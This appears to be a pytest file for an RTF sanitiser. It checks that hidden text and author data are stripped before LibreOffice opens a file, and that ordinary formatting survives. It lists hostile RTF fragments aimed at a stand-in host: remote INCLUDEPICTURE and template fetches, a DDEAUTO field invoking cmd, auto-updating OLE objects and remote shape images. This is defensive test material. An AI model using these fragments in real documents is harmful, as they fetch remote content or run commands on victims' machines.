"""RTF: LibreOffice gets what makes up the pages, and nothing that hides, fetches, embeds or names anybody."""

import random

import pytest

from tests.work_samples import files as made
from tests.work_samples import office_files as office_made
from work_samples import decoder
from work_samples.imaging import CannotRead
from work_samples.kinds import rtf

WORD = rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}"


def copied(body: bytes, folder, start=WORD, end=b"}") -> bytes:
    """What LibreOffice would get to see."""
    source, target = made.write(folder, "given.rtf", start + body + end), folder / "copied.rtf"
    rtf.rewrite(source, target)
    data = target.read_bytes()
    assert data.startswith(b"{\\rtf1")
    plain = data.replace(b"\\{", b"").replace(b"\\}", b"")
    assert plain.count(b"{") == plain.count(b"}")
    return data


def test_nothing_that_was_not_meant_to_be_seen_is_in_it(tmp_path):
    seen = copied(office_made.rtf_body().encode(), tmp_path).decode()
    for kept in (office_made.KEPT, office_made.INSERTED):
        assert kept in seen
    for gone in (*office_made.NEVER, made.SECRET, "revauth", "info", "AUTHOR"):
        assert gone not in seen


@pytest.mark.parametrize(
    "hostile",
    [
        rb'{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png" \\d}{\fldrslt kept}}',
        rb'{\field{\*\fldinst {\f0 INCLUDE}{TEXT "http://evil.example/a.docx"}}{\fldrslt kept}}',
        rb"{\field{\fldinst DDEAUTO c:\\evil.example cmd}{\fldrslt kept}}kept",
        rb"{\*\template http://evil.example/a.dotm}kept",
        rb"{\object\objautlink\objupdate{\*\objclass evil.example}{\*\objdata 6576696c2e6578616d706c65}{\result kept}}",
        rb"{\object\objemb{\objdata 6576696c2e6578616d706c65}{\result kept}}",
        rb"{\object\objemb{\*\objdata\bin12 evil.example}{\result kept}}",
        rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://evil.example/a.png}}{\shptxt kept}}}",
        rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv \u104?\u116?tp\'3a//evil.example}}{\shptxt kept}}}",
        rb"{\shp{\*\shpinst{\sp{\sn pihlShape}{\sv{\hl{\hlsrc http://evil.example}}}}{\shptxt kept}}}",
        rb"{\*\datastore 6576696c2e6578616d706c65}{\*\filetbl{\file evil.example}}kept",
        rb"{\*{\*\annotation evil.example}}kept",
        rb"{\* evil.example}kept",
        rb"{\*\userprops{\propname a}{\staticval evil.example}}kept",
        rb"{\v evil.example\plain  kept}{\deleted evil.example\v0 evil.example\deleted0 kept}",
    ],
)
def test_nothing_is_fetched_taken_in_embedded_or_hidden(hostile, tmp_path):
    seen = copied(hostile, tmp_path)
    assert b"kept" in seen
    for gone in (b"evil", b"6576", b"INCLUDE", b"DDE", b"fldinst", b"objdata", b"\\'3a", b"\\u104"):
        assert gone not in seen


@pytest.mark.parametrize(
    "kept",
    [
        rb"\b bold\b0  caf\'e9 \u8364? \{ \} \~ ",
        rb"{\*\shppict{\pict\pngblip 89504e47}}",
        rb"{\pict\jpegblip\bin4 {}\v}",
        rb"{\*\listtable{\list{\listlevel}}}",
        rb"{\footnote below}",
        rb"{\sp{\sn gtextUNICODE}{\sv Note: hi}}",
        rb"{\sp{\sn shapeType}{\sv 202}}",
    ],
)
def test_what_makes_up_the_pages_stays(kept, tmp_path):
    seen = copied(kept, tmp_path)
    assert kept.replace(b" ", b"") in seen.replace(b" ", b"")


def test_the_number_of_a_page_is_that_of_each_page(tmp_path):
    seen = copied(rb"{\header {\field{\*\fldinst PAGE \\* MERGEFORMAT}{\fldrslt 17}}}", tmp_path)
    assert b"\\chpgn" in seen
    assert b"17" not in seen


@pytest.mark.parametrize(
    ("start", "end", "code"),
    [
        (WORD, b"", "cut_off"),
        (WORD, b"\\", "cut_off"),
        (WORD + rb"{\pict\bin99 ", b"}}", "cut_off"),
        (b"x", b"}", "damaged"),
    ],
)
def test_what_is_cut_off_never_passes_for_the_whole(start, end, code, tmp_path):
    with pytest.raises(rtf.Refusal) as told:
        copied(b"Hello", tmp_path, start, end)
    assert told.value.code == code


def test_what_is_damaged_is_copied_or_has_a_reason(tmp_path):
    whole, chance = office_made.rtf(tmp_path).read_bytes(), random.Random(5)
    ended = set()
    for _ in range(300):
        source = made.write(tmp_path, "damaged.rtf", made.mutated(whole, chance))
        try:
            rtf.rewrite(source, tmp_path / "copied.rtf")
        except Exception as error:  # noqa: BLE001 (whatever a parser raises)
            code, facts = decoder.reason_for(error)
            assert CannotRead(code, **facts).sentence
            ended.add(code)
        else:
            ended.add("copied")
    assert {"copied", "cut_off"} <= ended
